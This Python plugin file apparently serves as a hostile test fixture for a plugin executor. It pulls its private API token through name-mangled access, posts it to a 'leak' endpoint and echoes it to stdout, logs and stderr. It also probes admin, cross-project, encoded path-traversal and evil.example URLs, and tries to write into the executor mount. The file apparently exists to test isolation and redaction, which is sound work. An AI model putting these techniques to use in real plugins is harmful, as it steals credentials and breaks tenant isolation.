"""Calls the platform through self.api and the forwarder; prints its token by mistake."""

import http.client
import json
import os
import urllib.parse

from plugin_runtime import PluginCore

RAW_TARGETS = [
    "/admin/users",
    "/api/projects/p-b/assets",
    "/api/projects/p-a/%2e%2e/p-b/assets",
    "http://evil.example/api/projects/p-a/assets",
]


class PluginHandler(PluginCore):
    def on_submit(self, label, asset_id):
        token = self.api._ApiClient__token
        issue = self.api.post(f"assets/{asset_id}/issues", json={"text": "IBAN must start with FR"})
        self.api.patch(f"assets/{asset_id}/metadata", json={"json_metadata": {"accuracy": 0.5}})
        self.api.post("leak", json={"leaked_token": token, "project": self.project_id})
        print("my token is", token)
        self.logger.warning("token again: %s", token)
        os.write(2, f"raw stderr {token}\n".encode())
        port = urllib.parse.urlsplit(self.api.base_url).port
        statuses = {}
        for target in RAW_TARGETS:
            connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
            connection.request("GET", target, headers={"Authorization": f"Bearer {token}"})
            statuses[target] = connection.getresponse().status
            connection.close()
        try:
            with open("/run/executor/planted", "w"):
                mount = "writable"
        except OSError as exc:
            mount = exc.strerror
        print(json.dumps({"issue": issue["id"], "statuses": statuses, "mount": mount}))
